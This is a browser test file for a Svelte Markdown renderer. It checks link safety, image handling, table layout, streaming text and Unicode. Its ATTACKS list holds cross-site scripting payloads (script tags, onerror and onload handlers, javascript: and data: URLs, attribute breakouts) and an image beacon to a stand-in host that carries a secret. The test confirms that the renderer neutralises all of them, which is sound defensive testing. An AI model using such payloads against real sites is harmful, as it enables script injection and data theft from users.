import { expect, test } from 'vitest';
import { render } from 'vitest-browser-svelte';
import { page, userEvent } from 'vitest/browser';
import '../../../app.css';
import Markdown from './Markdown.svelte';

/** Each tries to run a script or load something. */
const ATTACKS = [
	'<script>window.attacked = true</script>',
	'<img src=x onerror="window.attacked = true">',
	'<svg onload="window.attacked = true"><circle/></svg>',
	'<iframe srcdoc="<script>parent.attacked = true</script>"></iframe>',
	'<a href="javascript:window.attacked = true">x</a>',
	'<style>body { display: none }</style>',
	'<form action="https://evil.example"><input name=q></form>',
	'[x](javascript:window.attacked=true)',
	'[x](data:text/html,<script>parent.attacked=true</script>)',
	'[x](<java\nscript:attacked>)',
	'![x](javascript:window.attacked=true)',
	'![x](https://evil.example/collect?secret=1)',
	'![x](data:image/svg+xml,<svg onload=alert(1)>)',
	'[![x](https://evil.example/i.png)](https://evil.example/)',
	'<https://evil.example/"onmouseover="attacked=true>',
	'[x](https://e.example/ "a\\" onmouseover=\\"attacked=true")',
	'```"><script>attacked=true</script>\ncode\n```',
	'| <img src=x onerror=attacked=true> |\n| --- |\n| <script>attacked=true</script> |',
	'- [x] <b onmouseover="attacked=true">b</b>',
	'[ref]\n\n[ref]: javascript:attacked=true',
	'{@html "<script>attacked=true</script>"}'
];

test('no attack in markdown makes an element, a request or a script of its own', async () => {
	await render(Markdown, { text: ATTACKS.join('\n\n') });
	const root = page.getByTestId('markdown').element();
	expect(root.querySelectorAll('script, style, iframe, img, form, svg:not(.lucide), object, embed, base')).toHaveLength(
		0
	);
	const attributes = [...root.querySelectorAll('*')].flatMap((element) => [...element.attributes]);
	expect(attributes.filter(({ name }) => name.startsWith('on') || name === 'srcdoc' || name === 'src')).toEqual([]);
	for (const link of root.querySelectorAll('a')) expect(link.href).toMatch(/^(https?:|mailto:)/);
	expect('attacked' in window).toBe(false);
	const loaded = performance.getEntriesByType('resource').map(({ name }) => name);
	expect(loaded.filter((name) => name.includes('evil.example'))).toEqual([]);
});

test('raw HTML is shown as the text it is', async () => {
	const screen = await render(Markdown, { text: 'a <b>bold</b> word\n\n<div>\nblock\n</div>' });
	await expect.element(screen.getByText('a <b>bold</b> word')).toBeVisible();
	expect(screen.getByTestId('markdown').element().textContent).toContain('<div>\nblock\n</div>');
});

test('a link opens elsewhere and tells nothing of where it came from', async () => {
	const screen = await render(Markdown, { text: '[docs](https://example.com/a) <me@example.com>' });
	const link = screen.getByRole('link', { name: 'docs' });
	await expect.element(link).toHaveAttribute('rel', 'noopener noreferrer nofollow');
	await expect.element(link).toHaveAttribute('target', '_blank');
	await expect
		.element(screen.getByRole('link', { name: 'me@example.com' }))
		.toHaveAttribute('href', 'mailto:me@example.com');
});

test('an image is a link that names its host, and is not loaded', async () => {
	const screen = await render(Markdown, { text: '![A chart](https://images.example/chart.png)' });
	await expect.element(screen.getByRole('link', { name: 'A chart (images.example)' })).toBeVisible();
	expect(screen.getByTestId('markdown').element().querySelector('img')).toBeNull();
});

test('words stay together and apart as they were written', async () => {
	const screen = await render(Markdown, { text: 'a**b**c *d* `e`f [g](https://e.org)h\ni' });
	expect(screen.getByRole('paragraph').element().textContent).toBe('abc d ef gh\ni');
});

test('5,000 nested quotes do not take the page with them', async () => {
	const screen = await render(Markdown, { text: `${'>'.repeat(5000)} deep\n\nafter` });
	await expect.element(screen.getByText('after')).toBeVisible();
});

test('a growing text keeps the elements of its finished blocks, and ends as it would in one piece', async () => {
	const text = '# Title\n\nOne.\n\n- a\n- b\n\n```js\nlet a = 1;\n```\n\n| x | y |\n| - | - |\n| 1 | 2 |\n\nThe end.';
	const screen = await render(Markdown, { text: '', isGrowing: true });
	const root = screen.getByTestId('markdown').element();
	let heading: Element | null = null;
	for (let end = 1; end <= text.length; end += 3) {
		await screen.rerender({ text: text.slice(0, end), isGrowing: true });
		if (end > 15) heading ??= root.querySelector('h3');
	}
	await screen.rerender({ text, isGrowing: false });
	expect(heading).not.toBeNull();
	expect(root.querySelector('h3')).toBe(heading);

	const grown = root.innerHTML;
	await screen.unmount();
	const whole = await render(Markdown, { text });
	expect(withoutIds(grown)).toBe(withoutIds(whole.getByTestId('markdown').element().innerHTML));
});

test('a wide table and long code scroll in boxes of their own', async () => {
	await page.viewport(390, 800);
	const cells = Array.from({ length: 20 }, (_, index) => `column${index}`);
	const text = `| ${cells.join(' | ')} |\n|${' - |'.repeat(20)}\n| ${cells.join(' | ')} |\n\n\`\`\`\n${'x'.repeat(500)}\n\`\`\``;
	const screen = await render(Markdown, { text });
	const table = screen.getByRole('group', { name: 'Table, scrolls sideways' });
	await expect.element(table).toBeVisible();
	expect(document.documentElement.scrollWidth).toBeLessThanOrEqual(390);
	// A bar that stays tells so.
	expect(getComputedStyle(table.element()).scrollbarColor).toBe('auto');
	expect(getComputedStyle(table.element(), '::-webkit-scrollbar').height).toBe('8px');
	await screen.rerender({ text: '| a |\n| - |\n| 1 |' });
	await expect.element(screen.getByRole('group', { name: 'Table', exact: true })).toBeVisible();
});

test('cells stand as their column says, also when it says something else', async () => {
	const textOf = (marks: string) => `| A | B |\n| ${marks} |\n| 1 | **2** |\n`;
	const screen = await render(Markdown, { text: textOf('- | -:') });
	const alignments = () =>
		[...screen.container.querySelectorAll('td')].map(
			(cell) => `${cell.textContent} ${getComputedStyle(cell).textAlign}`
		);
	expect(alignments()).toEqual(['1 left', '2 right']);
	await screen.rerender({ text: textOf(':-: | -') });
	expect(alignments()).toEqual(['1 center', '2 left']);
});

test('code has its language and a button that copies it', async () => {
	const screen = await render(Markdown, { text: '```python\nprint(1)\n```' });
	await expect.element(screen.getByText('python')).toBeVisible();
	await expect.element(screen.getByRole('button', { name: 'Copy code' })).toBeVisible();
});

/** Svelte leaves comments around its blocks. */
function withoutIds(html: string): string {
	return html.replace(/<!--.*?-->/gs, '');
}

test('the columns of a table that grows long keep their widths, and it ends with all that it has', async () => {
	const rows = Array.from({ length: 120 }, (_, index) => `| ${index} | ${index} |`);
	const text = ['| A | B |', '| - | - |', ...rows, ''].join('\n');
	const screen = await render(Markdown, { text, isGrowing: true });
	const table = screen.getByRole('table').element();
	await expect.poll(() => getComputedStyle(table).tableLayout).toBe('fixed');
	expect(getComputedStyle(table).position).toBe('static');
	const widthsOf = () =>
		[...table.querySelectorAll('th')].map((cell) => Math.round(cell.getBoundingClientRect().width));
	const before = widthsOf();
	await screen.rerender({ text: `${text}| 120 | ${'long '.repeat(20)} |\n`, isGrowing: true });
	expect(widthsOf()).toEqual(before);
	await screen.rerender({ text: `${text}| 120 | ${'long '.repeat(20)} |\n`, isGrowing: false });
	expect(table.querySelectorAll('tbody tr')).toHaveLength(121);
	expect(widthsOf()).toEqual(before);
});

test('headings follow each other without a gap below the message’s own, however the text counts them', async () => {
	const text = '## First\n\n#### Deep\n\n### Higher\n\n# Top\n\n## Under\n\n> # Quoted\n\nEnd.';
	const screen = await render(Markdown, { text });
	const headings = [...screen.container.querySelectorAll('h1, h2, h3, h4, h5, h6')];
	expect(headings.map(({ tagName, textContent }) => `${tagName} ${textContent}`)).toEqual([
		'H3 First',
		'H4 Deep',
		'H4 Higher',
		'H3 Top',
		'H4 Under'
	]);
});

test('a link shows where it leads when it has the focus, and the text stays where it is', async () => {
	const screen = await render(Markdown, { text: 'See [the docs](https://example.com/a?b=1).\n\nMore.' });
	const more = screen.getByText('More.').element();
	const top = more.getBoundingClientRect().top;
	await userEvent.tab();
	await expect.element(screen.getByRole('link')).toHaveFocus();
	await expect.element(screen.getByTestId('link-target')).toHaveTextContent('https://example.com/a?b=1');
	expect(more.getBoundingClientRect().top).toBe(top);
	await userEvent.tab();
	await expect.element(screen.getByTestId('link-target')).not.toBeInTheDocument();
});

test('a link says its host for those who touch it, unless its words are the address', async () => {
	const text =
		'[docs](https://example.com/a) [example.org](https://example.org/) <https://example.net/x> [https://good.example](https://u@evil.example/)';
	const screen = await render(Markdown, { text });
	const links = [...screen.container.querySelectorAll('a')];
	expect(links.map((link) => link.dataset['host'])).toEqual(['example.com', undefined, undefined, 'evil.example']);
});

test('a letter with a tower of marks stays in its line; letters as people write them are as they were', async () => {
	const tower = `a${'\u0301\u0316'.repeat(30)}`;
	const screen = await render(Markdown, { text: `Z${tower}b ${'Việt ก็ é'.normalize('NFD')} \`${tower}\`` });
	const stacked = [...screen.container.querySelectorAll('.stacked')];
	expect(stacked.map(({ textContent }) => textContent)).toEqual([tower, tower]);
	for (const each of stacked) {
		expect(getComputedStyle(each).overflow).toBe('clip');
		const { height } = each.getBoundingClientRect();
		expect(height).toBeLessThanOrEqual(Number.parseFloat(getComputedStyle(each).lineHeight) + 0.5);
	}
	expect(screen.getByTestId('markdown').element().textContent).toContain(`Z${tower}b`);
});

test('a task has its box in place of the bullet', async () => {
	const screen = await render(Markdown, { text: '- [x] done\n- [ ] open\n- plain' });
	const styles = [...screen.container.querySelectorAll('li')].map((item) => getComputedStyle(item).listStyleType);
	expect(styles).toEqual(['none', 'none', 'disc']);
});

test('rows of a table with many columns stay low on a narrow page', async () => {
	await page.viewport(390, 800);
	const cells = ['North and south', 'Widgets with handles', '2026-01-01', 'in progress', '', 'a b c d e f g h'];
	const row = (list: string[]) => `| ${list.join(' | ')} |`;
	const text = [row(cells.map((_, index) => `C${index}`)), row(cells.map(() => '-')), row(cells), row(cells)].join(
		'\n'
	);
	const screen = await render(Markdown, { text });
	const lineHeight = Number.parseFloat(getComputedStyle(screen.container.querySelector('td')!).lineHeight);
	for (const line of screen.container.querySelectorAll('tbody tr')) {
		expect(line.getBoundingClientRect().height).toBeLessThan(2 * lineHeight);
	}
	expect(document.documentElement.scrollWidth).toBeLessThanOrEqual(390);
});
